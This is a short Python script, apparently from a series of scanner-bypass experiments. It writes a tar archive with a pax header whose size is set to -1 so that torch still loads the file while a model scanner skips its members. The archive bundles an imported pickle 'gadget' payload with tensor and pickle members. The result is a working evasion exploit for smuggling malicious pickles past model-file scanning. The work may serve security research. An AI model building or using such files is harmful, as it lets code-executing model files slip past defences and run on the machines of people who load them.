# A pax 'x' header whose size field is -1 (base-256 0xff..): CPython < 3.13.6/3.12.12 reads
# _block(-1) == 0 bytes of records and goes on to the next header, so the archive is a valid tar
# to torch. The scanner's isTarStart refuses negative extension sizes -> never scans the members.
import sys, struct
import os, sys; sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), '..', 'round3')); from tarlib import *
out = sys.argv[1]; h = len(sys.argv) > 2
def neghdr(typ=b'x'):
    b = bytearray(hdr(b'././@PaxHeader', 0, typ))
    b[124:136] = b'\xff' * 12        # size = -1
    b[148:156] = b' ' * 8
    b[148:156] = b'%06o\0 ' % sum(b)
    return bytes(b)
st = payload(h)
f = neghdr() + member_gadget(b"storages", st) + member(b'tensors', TENSORS0) + member(b'pickle', P({})) + end()
open(out, 'wb').write(f)
